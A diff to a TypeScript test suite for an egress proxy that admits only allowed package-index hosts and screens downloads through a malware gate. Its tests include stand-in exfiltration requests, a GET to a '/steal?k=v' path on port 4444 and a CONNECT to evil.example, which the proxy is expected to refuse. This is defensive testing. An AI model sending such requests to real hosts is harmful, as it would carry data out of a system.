@@ -33,9 +33,18 @@ describe("the egress proxy", () => {
   let proxy: EgressProxy;
   let socketPath: string;
   const refused: EgressAttempt[] = [];
+  const screened: string[] = [];
+  const served: string[] = [];
 
   beforeAll(async () => {
-    upstream = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: (request) => new Response(`served ${new URL(request.url).pathname}`) });
+    upstream = Bun.serve({
+      port: 0,
+      hostname: "127.0.0.1",
+      fetch: (request) => {
+        served.push(new URL(request.url).pathname);
+        return new Response(`served ${new URL(request.url).pathname}`);
+      },
+    });
     port = upstream.port ?? 0;
     socketPath = join(tempDir("socket"), "egress.sock");
     proxy = await startEgressProxy({
@@ -43,6 +52,11 @@ describe("the egress proxy", () => {
       allow: new Set([destinationKey("127.0.0.1", port), destinationKey("127.0.0.1", 1)]),
       onAttempt: (attempt) => {
         if (!attempt.allowed) refused.push(attempt);
+      },
+      // The known-malware gate's place: it sees each readable request before it is forwarded.
+      screen: async (url) => {
+        screened.push(url.pathname);
+        return !url.pathname.endsWith("/refused-1.0-py3-none-any.whl");
       },
     });
   });
@@ -54,11 +68,20 @@ describe("the egress proxy", () => {
   test("forwards a plain-HTTP request to an allowed index host, one request per connection", async () => {
     const response = await exchange(
       socketPath,
-      `PIPCANARY-PEER 40001\nGET http://127.0.0.1:${port}/simple/pkg/ HTTP/1.1\r\nHost: 127.0.0.1\r\nProxy-Connection: keep-alive\r\n\r\n`,
+      `PROXY TCP4 127.0.0.1 127.0.0.1 40001 3128\r\nGET http://127.0.0.1:${port}/simple/pkg/ HTTP/1.1\r\nHost: 127.0.0.1\r\nProxy-Connection: keep-alive\r\n\r\n`,
     );
     expect(response).toStartWith("HTTP/1.1 200");
     expect(response).toContain("served /simple/pkg/");
     expect(proxy.attempts.at(-1)).toMatchObject({ host: "127.0.0.1", port: port, allowed: true, method: "GET", peerPort: 40001 });
+  });
+
+  test("a screened request that the screen refuses gets 403 and never reaches the index", async () => {
+    const refusedFile = await exchange(socketPath, `GET http://127.0.0.1:${port}/files/refused-1.0-py3-none-any.whl HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`);
+    const passed = await exchange(socketPath, `GET http://127.0.0.1:${port}/files/passed-1.0-py3-none-any.whl HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`);
+    expect(refusedFile).toStartWith("HTTP/1.1 403");
+    expect(passed).toContain("served /files/passed-1.0-py3-none-any.whl");
+    expect(screened).toContain("/files/refused-1.0-py3-none-any.whl");
+    expect(served).not.toContain("/files/refused-1.0-py3-none-any.whl");
   });
 
   test("tunnels CONNECT to an allowed host", async () => {
@@ -68,8 +91,8 @@ describe("the egress proxy", () => {
   });
 
   test("refuses and reports any other destination, plain or tunnelled", async () => {
-    const plain = await exchange(socketPath, "PIPCANARY-PEER 40002\nGET http://127.0.0.9:4444/steal?k=v HTTP/1.1\r\nHost: 127.0.0.9\r\n\r\n");
-    const tunnel = await exchange(socketPath, "PIPCANARY-PEER 40003\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n");
+    const plain = await exchange(socketPath, "PROXY TCP4 127.0.0.1 127.0.0.1 40002 3128\r\nGET http://127.0.0.9:4444/steal?k=v HTTP/1.1\r\nHost: 127.0.0.9\r\n\r\n");
+    const tunnel = await exchange(socketPath, "PROXY TCP4 127.0.0.1 127.0.0.1 40003 3128\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n");
     expect(plain).toStartWith("HTTP/1.1 403");
     expect(tunnel).toStartWith("HTTP/1.1 403");
     expect(refused.map(({ host, port, peerPort, url }) => ({ host, port, peerPort, url }))).toEqual([
